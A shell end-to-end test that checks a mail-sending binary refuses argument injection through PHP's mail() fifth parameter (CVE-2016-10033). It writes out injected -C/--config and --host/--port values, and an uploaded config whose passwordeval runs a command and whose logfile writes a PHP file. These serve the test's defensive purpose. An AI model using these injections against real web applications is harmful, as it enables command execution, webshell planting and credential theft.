#!/bin/sh
# End-to-end: a web application's argv (issue 21, item 6).  PHP's mail()
# passes its fifth argument to sendmail through a shell; an attacker who
# controls it (CVE-2016-10033) adds options.  Here PHP runs as www-data and
# the "attacker" injects -C/--config naming a file uploaded into a directory
# www-data owns: its passwordeval would run a command and its logfile would
# write a PHP file.  smtps-send must refuse the file before it reads it:
# no command runs, no file is written, nothing is sent.  Then the same with
# --host=evil: the configured password must not follow the connection.
set -u
. tests/e2e/lib.sh
sx_ensure_server || exit $?
command -v php >/dev/null 2>&1 || { echo "php-cli missing"; exit 77; }
id www-data >/dev/null 2>&1 || { echo "no www-data user"; exit 77; }

BIN=${SMTPS_SEND:?SMTPS_SEND must name the binary}
T=$(mktemp -d /tmp/sxw.XXXXXX)
sx_on_exit 'rm -rf "$T"'
chmod 755 "$T"
mkdir "$T/www" "$T/www/uploads" "$T/home" "$T/q"
chown www-data:www-data "$T/www" "$T/www/uploads" "$T/home" "$T/q"
chmod 700 "$T/q"

# The uploaded "config": a command to run, a PHP file to write.
cat >"$T/www/uploads/x.conf" <<CONF
host 127.0.0.1
port $SX_PORT_PLAIN
tls off
user u
auth_cleartext on
passwordeval touch $T/www/uploads/pwned
logfile $T/www/uploads/shell.php
from attacker@example.org
CONF
chown www-data:www-data "$T/www/uploads/x.conf"
chmod 600 "$T/www/uploads/x.conf"

# The web application: mail() with the attacker's fifth argument.
cat >"$T/www/app.php" <<'PHP'
<?php
$ok = mail("victim@example.org", "hello", "body " . getenv("MARKER"),
    "From: app@example.org", getenv("INJECT"));
echo $ok ? "true\n" : "false\n";
PHP
cat >"$T/wrap" <<WRAP
#!/bin/sh
exec env SMTPS_SEND_QUEUE_DIR=$T/q SMTPS_SEND_HOST=localhost \
	SMTPS_SEND_PORT=$SX_PORT_STARTTLS SMTPS_SEND_TLS_TRUST_FILE=$SX_CA \
	SMTPS_SEND_FROM=app@example.org SMTPS_SEND_USER=$SX_USER \
	SMTPS_SEND_PASSWORD_FILE=$T/pass $BIN "\$@"
WRAP
chmod 755 "$T/wrap"
# The operator's secret for the application (a container's variable would do the same).
printf '%s\n' "$SX_PASS" >"$T/pass"
chown www-data "$T/pass"
chmod 600 "$T/pass"

# php_as_www INJECT MARKER: run the app as www-data; prints mail()'s result.
php_as_www() {
	setpriv --reuid=www-data --regid=www-data --clear-groups \
		env -i PATH=/usr/bin:/bin HOME="$T/home" INJECT="$1" MARKER="$2" \
		php -d sendmail_path="$T/wrap -t -i" "$T/www/app.php" 2>"$T/err"
}

# 1. -C (and its spellings) naming the uploaded file: refused, nothing happens.
n=0
for inj in "-C$T/www/uploads/x.conf" "-C $T/www/uploads/x.conf" "--config=$T/www/uploads/x.conf" \
	"-f x@example.org -C $T/www/uploads/x.conf"; do
	n=$((n + 1))
	out=$(php_as_www "$inj" "web$$-$n")
	[ "$out" = false ] || { cat "$T/err" >&2; sx_fail "-C injection $n: mail() returned $out"; }
	[ ! -e "$T/www/uploads/pwned" ] || sx_fail "-C injection $n: the uploaded passwordeval ran"
	[ ! -e "$T/www/uploads/shell.php" ] || sx_fail "-C injection $n: the uploaded logfile was written"
done
sleep 1
grep -r -l -F -e "web$$-" "$SX_MAILDIR/new" >/dev/null 2>&1 && sx_fail "-C injection: something was sent"
echo "ok 1 -C/--config naming an uploaded file, as www-data through mail(): refused, no command, no file, nothing sent"

# 2. Without the injection the same app sends (the wrapper works).
out=$(php_as_www "" "web$$-ok")
[ "$out" = true ] || { cat "$T/err" >&2; sx_fail "plain mail(): returned $out"; }
sx_wait_delivery "web$$-ok" >/dev/null || sx_fail "plain mail(): not delivered"
echo "ok 2 the same application without the injection sends"

# 3. --host/--port injected: the operator's password (the wrapper's
# SMTPS_SEND_PASSWORD_FILE) must not go to the attacker's server.  The
# "attacker" listens and counts connections.
python3 -c '
import socket, sys, time
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(5)
print(s.getsockname()[1], flush=True)
s.settimeout(20); n = 0
try:
    while True:
        c, _ = s.accept(); n += 1
        open(sys.argv[1], "w").write(str(n)); c.close()
except Exception:
    pass
' "$T/evil.count" >"$T/evil.port" &
epid=$!
sx_on_exit "kill $epid 2>/dev/null; rm -rf '$T'"
i=0
while [ ! -s "$T/evil.port" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
out=$(php_as_www "--host=127.0.0.1 --port=$(cat "$T/evil.port")" "web$$-evil")
[ "$out" = false ] || { cat "$T/err" >&2; sx_fail "--host injection: mail() returned $out"; }
[ ! -s "$T/evil.count" ] || sx_fail "--host injection: the attacker's server got $(cat "$T/evil.count") connection(s)"
kill $epid 2>/dev/null
# The same config without the injection sends.
out=$(php_as_www "" "web$$-own")
[ "$out" = true ] || { cat "$T/err" >&2; sx_fail "own config: mail() returned $out"; }
sx_wait_delivery "web$$-own" >/dev/null || sx_fail "own config: not delivered"
echo "ok 3 --host/--port injected: the configured password does not follow; refused before connecting"
